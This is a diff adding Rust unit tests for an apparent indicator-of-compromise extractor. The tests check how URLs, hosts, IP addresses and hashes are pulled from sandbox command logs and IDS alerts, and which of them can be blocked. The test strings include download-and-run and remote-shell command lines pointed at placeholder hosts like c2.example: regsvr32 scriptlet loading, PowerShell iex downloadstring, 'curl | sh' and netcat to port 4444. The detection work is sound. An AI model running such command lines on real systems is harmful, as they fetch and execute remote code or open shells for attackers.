@@ -70,3 +70,107 @@ fn odd_shapes_are_passed_over() {
         r#"{"files_opened":{"a":1},"dns_lookups":["x",null,{"hostname":7}],"ip_traffic":"192.0.2.1","tls":[[]]}"#;
     assert!(found(json).is_empty());
 }
+
+fn named(text: &str) -> Vec<String> {
+    let command = serde_json::to_string(text).unwrap();
+    found(&format!(r#"{{"command_executions":[{command}]}}"#))
+        .iter()
+        .map(|found| found[..found.len() - 2].to_owned())
+        .collect()
+}
+
+#[test]
+fn a_url_begins_at_its_scheme_and_ends_where_the_next_thing_begins() {
+    let urls = |text| {
+        let found = named(text).into_iter();
+        found.filter_map(|found| found.strip_prefix("url ").map(str::to_owned)).collect::<Vec<_>>()
+    };
+    for (text, wanted) in [
+        ("regsvr32 /s /n /u /i:http://c2.example/a.sct scrobj.dll", &["http://c2.example/a.sct"][..]),
+        ("script:http://c2.example/a -uri:https://d.example/b", &["http://c2.example/a", "https://d.example/b"]),
+        (
+            "&http://c2.example/ [http://d.example/x] *1http://e.example",
+            &["http://c2.example/", "http://d.example/x", "http://e.example"],
+        ),
+        ("http://c2.example/a?b=1,2;c=(3)&d={4}", &["http://c2.example/a?b=1,2;c=(3)&d={4}"]),
+        (r#"cmd /c "start \"http://c2.example/x\"""#, &["http://c2.example/x"]),
+        ("iex((new-object net.webclient).downloadstring('http://c2.example/x'))", &["http://c2.example/x"]),
+        (
+            "curl http://c2.example/x|sh; curl http://d.example/y&start z",
+            &["http://c2.example/x", "http://d.example/y"],
+        ),
+        (
+            "http://a.example/1@http://b.example/2@http://c.example/3",
+            &["http://a.example/1", "http://b.example/2", "http://c.example/3"],
+        ),
+        ("http://a.example/?u=http://b.example/2", &["http://a.example/?u=http://b.example/2", "http://b.example/2"]),
+        (r"http:\\c2.example\x", &[r"http:\\c2.example\x"]),
+        ("see http://c2.example/x.", &["http://c2.example/x"]),
+        ("gopher://c2.example/x", &["gopher://c2.example/x"]),
+        ("://x http:// a:b", &[]),
+    ] {
+        assert_eq!(urls(text), wanted, "{text}");
+    }
+}
+
+#[test]
+fn a_machine_is_found_with_a_port_a_path_or_a_protocol() {
+    for (text, wanted) in [
+        ("curl 203.0.113.5/x", "address 203.0.113.5"),
+        ("nc tcp:203.0.113.5:4444", "address 203.0.113.5"),
+        ("nc [2001:db8::5]:80", "address 2001:db8::5"),
+        ("ssh root@203.0.113.5", "address 203.0.113.5"),
+        (r"copy \\203.0.113.5\share\x.exe", "address 203.0.113.5"),
+        (r"rundll32 \\c2.example@SSL\DavWWWRoot\x.dll,Start", "host c2.example"),
+    ] {
+        assert!(named(text).contains(&wanted.to_owned()), "{text}: {:?}", named(text));
+    }
+    let json = r#"{"ids_alerts":[{"alert_context":{"dest_ip":"203.0.113.5:80","hostname":"C2.example:8080"}}],
+        "http_conversations":[{"url":"d.example/x"},{"url":"/y"}],"tls":[{"sni":"b\u00fccher.example"}]}"#;
+    assert_eq!(
+        found(json),
+        [
+            "host c2.example 1",
+            "host d.example 1",
+            "host xn--bcher-kva.example 1",
+            "address 203.0.113.5 1",
+            "url d.example/x 1"
+        ]
+    );
+}
+
+#[test]
+fn numbers_that_look_like_something_are_none_of_it() {
+    let hash = "0123456789abcdef".repeat(2);
+    for text in ["System, Version=4.0.0.0, Culture=neutral", "FileVersion=2.0.5.0", &format!("/x {{{hash}}}")] {
+        assert!(named(text).is_empty(), "{text}: {:?}", named(text));
+    }
+    assert_eq!(
+        named(&format!("version=203.0.113.5 {hash}")),
+        [format!("hash {hash}"), "address 203.0.113.5".to_owned()]
+    );
+}
+
+#[test]
+fn of_the_machines_of_an_alert_the_other_one_counts() {
+    let alert = |from: &str, to: &str| {
+        found(&format!(r#"{{"ids_alerts":[{{"alert_context":{{"src_ip":"{from}","dest_ip":"{to}"}}}}]}}"#))
+    };
+    assert_eq!(alert("192.168.1.4", "203.0.113.5"), ["address 203.0.113.5 1"]);
+    assert_eq!(alert("203.0.113.5", "192.168.1.4"), ["address 203.0.113.5 1"]);
+    assert_eq!(alert("198.51.100.2", "203.0.113.5"), ["address 203.0.113.5 1"]);
+    assert_eq!(alert("192.168.1.4", "192.168.1.1"), ["address 192.168.1.1 1"]);
+}
+
+#[test]
+fn what_many_files_or_networks_have_is_not_blocked() {
+    let can = |kind, value: &str| Indicator::new(kind, Untrusted::from(value)).can_be_blocked();
+    let hash = |text: &str| text.repeat(64 / text.len());
+    assert!(
+        can(Kind::Hash, &hash("ab"))
+            && can(Kind::Host, "xn--bcher-kva.example")
+            && can(Kind::Url, "http://c2.example:80/")
+    );
+    assert!(!can(Kind::Hash, &hash("0")) && !can(Kind::Hash, "d41d8cd98f00b204e9800998ecf8427e"));
+    assert!(!can(Kind::Host, "fileserver.corp") && !can(Kind::Url, "http://0x7f.1/") && !can(Kind::Path, r"C:\x"));
+}
